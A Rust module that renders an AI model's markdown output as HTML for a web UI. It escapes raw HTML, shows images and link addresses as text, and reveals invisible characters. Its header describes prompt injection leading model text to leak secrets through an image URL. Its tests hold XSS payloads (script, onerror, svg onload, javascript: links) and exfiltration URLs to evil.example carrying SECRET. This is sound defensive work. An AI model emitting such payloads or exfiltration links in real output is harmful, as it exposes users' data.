//! Markdown of model text, rendered for the web UI without giving the text any authority over
//! the page: raw HTML is shown as text, images are never loaded (their address is shown
//! instead), and a link always shows where it goes. A model's text can carry an injection
//! from a file it read; an `<img>` pointing at `https://evil/?d=SECRET` would be fetched by the
//! browser the moment it was shown, and a link's words can hide its destination.

use pulldown_cmark::{CowStr, Event, LinkType, Options, Parser, Tag, TagEnd, html};

/// Schemes a rendered link may point at; anything else (`javascript:`, `data:`, relative
/// paths) is shown as text only.
const LINK_SCHEMES: [&str; 3] = ["https://", "http://", "mailto:"];

/// `text` (CommonMark with tables and strikethrough) as HTML safe to put into a
/// page:
/// - raw HTML blocks and inline HTML are escaped and shown as text;
/// - an image becomes `[image: ALT] (URL)`: text, never an `<img>`;
/// - a link whose words differ from its address is shown as `WORDS (URL)`, the address being
///   the only clickable part; addresses other than `http(s):`/`mailto:` are plain text;
/// - bidirectional controls and zero-width characters are shown as markers (`⟨U+202E⟩`).
pub(super) fn to_html(text: &str) -> String {
    // Bidirectional controls and zero-width characters are shown, never obeyed.
    let text = steward_protocol::reveal_invisible(text);
    let text = text.as_ref();
    // No task lists (they would be unlabelled checkboxes), no heading attributes (a model must
    // not give an element of the page an id).
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let mut out = String::with_capacity(text.len() + text.len() / 4);
    html::push_html(&mut out, Shown::new(Parser::new_ext(text, options)));
    out
}

/// Whether `url` may be a clickable link: one of [`LINK_SCHEMES`].
fn shown_as_link(url: &str) -> bool {
    let lower = url.trim_start().to_ascii_lowercase();
    LINK_SCHEMES.iter().any(|s| lower.starts_with(s))
}

/// The event filter behind [`to_html`].
struct Shown<'a, I> {
    inner: I,
    /// Destinations of the links and images being rendered, innermost last: `(url, image)`.
    open: Vec<(CowStr<'a>, bool)>,
    /// Events to give out before reading on.
    queued: std::collections::VecDeque<Event<'a>>,
}

impl<'a, I: Iterator<Item = Event<'a>>> Shown<'a, I> {
    fn new(inner: I) -> Self {
        Shown { inner, open: Vec::new(), queued: std::collections::VecDeque::new() }
    }

    /// The events that show `url` as the link's destination: a link whose text is the address.
    fn destination(&mut self, url: CowStr<'a>) {
        self.queued.push_back(Event::Text(" (".into()));
        if shown_as_link(&url) {
            let link =
                Tag::Link { link_type: LinkType::Autolink, dest_url: url.clone(), title: "".into(), id: "".into() };
            self.queued.push_back(Event::Start(link));
            self.queued.push_back(Event::Text(url));
            self.queued.push_back(Event::End(TagEnd::Link));
        } else {
            self.queued.push_back(Event::Code(url));
        }
        self.queued.push_back(Event::Text(")".into()));
    }
}

impl<'a, I: Iterator<Item = Event<'a>>> Iterator for Shown<'a, I> {
    type Item = Event<'a>;

    fn next(&mut self) -> Option<Event<'a>> {
        if let Some(event) = self.queued.pop_front() {
            return Some(event);
        }
        let event = self.inner.next()?;
        Some(match event {
            Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
            Event::Start(Tag::Link { link_type, dest_url, title, id }) => {
                let allowed = link_type == LinkType::Email || shown_as_link(&dest_url);
                if matches!(link_type, LinkType::Autolink | LinkType::Email) && allowed {
                    // An autolink (`<https://…>`) already shows its address as its text.
                    self.open.push(("".into(), false));
                    return Some(Event::Start(Tag::Link { link_type, dest_url, title, id }));
                }
                self.open.push((dest_url, false));
                return self.next();
            }
            Event::Start(Tag::Image { dest_url, .. }) => {
                self.open.push((dest_url, true));
                Event::Text("[image: ".into())
            }
            Event::End(TagEnd::Link) => match self.open.pop() {
                Some((url, _)) if url.is_empty() => Event::End(TagEnd::Link),
                Some((url, _)) => {
                    self.destination(url);
                    return self.next();
                }
                None => return self.next(),
            },
            Event::End(TagEnd::Image) => {
                let (url, _) = self.open.pop().unwrap_or(("".into(), true));
                self.queued.push_back(Event::Text("]".into()));
                self.destination(url);
                return self.next();
            }
            other => other,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::to_html;

    #[test]
    fn markup_in_model_text_is_shown_as_text() {
        for hostile in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "hello <b onclick=alert(1)>there</b>",
            "<iframe src=\"https://evil\"></iframe>",
            "<svg/onload=alert(1)>",
        ] {
            let html = to_html(hostile);
            assert!(
                !html.contains("<script")
                    && !html.contains("<img")
                    && !html.contains("<b ")
                    && !html.contains("<iframe"),
                "{hostile:?} gave {html}"
            );
            assert!(!html.contains("<svg"), "{html}");
            assert!(html.contains("&lt;"), "{hostile:?} is shown as text: {html}");
        }
    }

    #[test]
    fn images_are_never_loaded_and_links_show_where_they_go() {
        let html = to_html("![chart](https://evil.example/c.png?d=SECRET)");
        assert!(!html.contains("<img"), "{html}");
        assert!(html.contains("[image: chart] (") && html.contains("https://evil.example/c.png?d=SECRET"), "{html}");

        let html = to_html("see [the docs](https://evil.example/?d=SECRET)");
        assert!(html.contains("the docs ("), "{html}");
        assert!(html.contains(">https://evil.example/?d=SECRET</a>"), "the address is the link's text: {html}");
        assert_eq!(html.matches("<a ").count(), 1, "{html}");

        for script in
            ["[click](javascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "[y](/api/runs)"]
        {
            let html = to_html(script);
            assert!(!html.contains("<a "), "{script} must not become a link: {html}");
        }

        let html = to_html("<https://example.com/page>");
        assert_eq!(html.matches("<a ").count(), 1, "{html}");
        assert!(html.contains(">https://example.com/page</a>"), "{html}");
    }

    #[test]
    fn a_link_cannot_reverse_what_it_shows() {
        let html = to_html("https://google.com/\u{202E}moc.live");
        assert!(html.contains("⟨U+202E⟩") && !html.contains('\u{202E}'), "{html}");
    }

    #[test]
    fn ordinary_markdown_is_rendered() {
        let html = to_html("# Title\n\nSome `code` and **bold**.\n\n- one\n- two\n\n```rust\nfn main() {}\n```\n");
        for part in ["<h1>Title</h1>", "<code>code</code>", "<strong>bold</strong>", "<li>one</li>", "<pre><code"] {
            assert!(html.contains(part), "{part} missing from {html}");
        }
        let html = to_html("| a | b |\n|---|---|\n| 1 | 2 |\n");
        assert!(html.contains("<table>"), "{html}");
        // A model gives no element an id or an input.
        let html = to_html("# Run {#run}\n\n- [x] done\n");
        assert!(!html.contains("id=") && !html.contains("<input"), "{html}");
    }
}
